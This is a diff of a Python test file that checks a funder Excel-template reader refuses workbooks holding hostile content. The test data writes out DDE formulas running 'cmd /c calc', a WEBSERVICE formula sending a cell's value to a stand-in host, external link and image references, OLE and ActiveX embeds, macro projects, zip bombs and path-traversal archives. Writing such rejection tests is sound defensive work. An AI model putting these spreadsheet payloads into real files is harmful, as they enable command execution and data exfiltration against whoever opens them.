@@ -9,6 +9,7 @@ from zipfile import ZIP_DEFLATED, ZipFile
 import pytest
 from openpyxl import Workbook
 
+from tests.readers import bombs
 from tests.reports.funder_template import FIRST, TOTAL, funder_template, parts_of
 from tracker.domain.errors import FileRefused, RuleViolation
 from tracker.domain.funder_workbooks import TemplateCell
@@ -41,6 +42,7 @@ def test_sheets_cells_formulas_and_names_are_read() -> None:
         ("Voorblad", False),
         (COSTS, False),
         ("Lijsten", True),
+        ("Systeem", True),
     ]
     costs = template.sheet(COSTS)
     assert costs is not None
@@ -93,6 +95,88 @@ def test_what_is_no_form_is_refused(content: bytes, said: str) -> None:
     with pytest.raises(RuleViolation, match=said) as refusal:
         template_in(content, "form.xlsx")
     assert refusal.value.field == "document"
+
+
+LINKED = "xl/externalLinks/externalLink1.xml"
+RELATED = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+PICTURE = (
+    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/image" Target="http://192.0.2.1/seen.png" TargetMode="External"/>'
+    b"</Relationships>"
+)
+
+
+def with_part(part: str, content: bytes) -> bytes:
+    """The template with a part more."""
+    out = BytesIO()
+    with ZipFile(out, "w", ZIP_DEFLATED) as made:
+        for name, kept in (*parts_of(TEMPLATE).items(), (part, content)):
+            made.writestr(name, kept)
+    return out.getvalue()
+
+
+def asking(formula: bytes) -> bytes:
+    """The template with another formula in F9."""
+    return rebuilt(sheet2=(b"<f>C9-E9</f>", b"<f>%s</f>" % formula))
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (
+            with_part(LINKED, b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/>"
+                              b"</externalLink>"),
+            "holds other programs: DDE cmd",
+        ),
+        (
+            with_part(LINKED, b"<externalLink><oleLink progId='Word.Document'/></externalLink>"),
+            "OLE Word.Document",
+        ),
+        (with_part(LINKED, b"<externalLink/>"), f"contents over from elsewhere: {LINKED}"),
+        (
+            with_part("xl/drawings/_rels/drawing9.xml.rels", RELATED + PICTURE),
+            r"elsewhere: http://192\.0\.2\.1/seen\.png",
+        ),
+        (with_part("xl/connections.xml", b"<connections/>"), "fetches figures .*connections"),
+        (with_part("xl/embeddings/oleObject1.bin", b"MZ"), r"other programs: .*oleObject1\.bin"),
+        (with_part("xl/activeX/activeX1.xml", b"<ocx/>"), "other programs: .*activeX1"),
+        (asking(b'_xlfn.WEBSERVICE("http://192.0.2.1/?"&amp;C9)'), f"another program: {COSTS}!F9"),
+        (asking(b"cmd|'/c calc'!A0"), f"another program: {COSTS}!F9"),
+        (asking(b'DDE("soffice","a.ods","A1")'), f"another program: {COSTS}!F9"),
+        (
+            rebuilt(workbook=(b"Voorblad!$C$7", b"_xlfn.IMAGE(&quot;http://192.0.2.1&quot;)")),
+            "another program: peildatum",
+        ),
+        (with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "holds macros"),
+        (bombs.a_password(), "locked with a password"),
+        (bombs.zip_bomb(), "unpacks to"),
+        (bombs.names_that_lead_outside(), "leads out of it"),
+    ],
+)  # fmt: skip
+def test_what_would_reach_outside_or_do_harm_is_refused_with_what_it_is(
+    content: bytes, said: str
+) -> None:
+    with pytest.raises(RuleViolation, match=said) as refusal:
+        template_in(content, "form.xlsx")
+    assert refusal.value.field == "document"
+    assert str(refusal.value.hint)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        asking(b'IF(C9&gt;0,"DDE(a|b)","RTD()")'),
+        asking(b"'Kosten 2023'!C9"),
+        asking(b'HYPERLINK("https://funder.example/form","form")'),
+        with_part("xl/media/image9.png", b"\x89PNG"),
+        with_part(
+            "xl/drawings/_rels/drawing9.xml.rels",
+            RELATED + PICTURE.replace(b"relationships/image", b"relationships/hyperlink"),
+        ),
+    ],
+)
+def test_what_stays_within_the_workbook_is_taken(content: bytes) -> None:
+    assert template_in(content, "form.xlsx").sheets
 
 
 def test_a_list_is_no_form(tmp_path: Path) -> None:
